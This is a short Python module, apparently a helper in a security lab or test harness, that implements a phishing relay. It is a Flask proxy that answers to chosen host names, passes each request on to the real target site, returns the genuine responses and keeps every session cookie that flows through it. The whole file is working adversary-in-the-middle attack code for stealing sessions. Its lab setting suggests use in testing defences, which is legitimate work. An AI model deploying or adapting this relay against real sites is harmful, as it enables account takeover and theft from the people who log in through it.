"""A phishing relay: a false site that passes everything on to the real one, at once."""

from __future__ import annotations

from typing import Any

from flask import Flask, Response, request

from helpers.lab.clients import session
from helpers.lab.web import serve


class Relay:
    """A running relay in front of `target`; also a context manager.

    names: the hosts that it answers to, beside the loopback ones. url: its loopback address;
    taken: the session cookies that passed through it.
    """

    def __init__(self, target: str, names: list[str]) -> None:
        self.taken: list[str] = []
        self._client, self._target = session(), target
        app = Flask("relay")
        app.add_url_rule("/<path:path>", "pass_on", self._pass_on, methods=["GET", "POST"])
        self._server = serve(app, names=names)
        self.url = self._server.url

    def _pass_on(self, path: str) -> Response:
        self._client.cookies.clear()
        reply = self._client.request(
            request.method,
            f"{self._target}/{path}",
            params=request.args,
            data=request.get_data(),
            headers={"Content-Type": request.content_type or "text/plain"},
        )
        self.taken += [cookie.value or "" for cookie in reply.cookies if cookie.name == "session"]
        return Response(reply.content, reply.status_code, content_type=reply.headers["Content-Type"])

    def __enter__(self) -> Relay:
        return self

    def __exit__(self, *error: Any) -> None:
        self._client.close()
        self._server.stop()
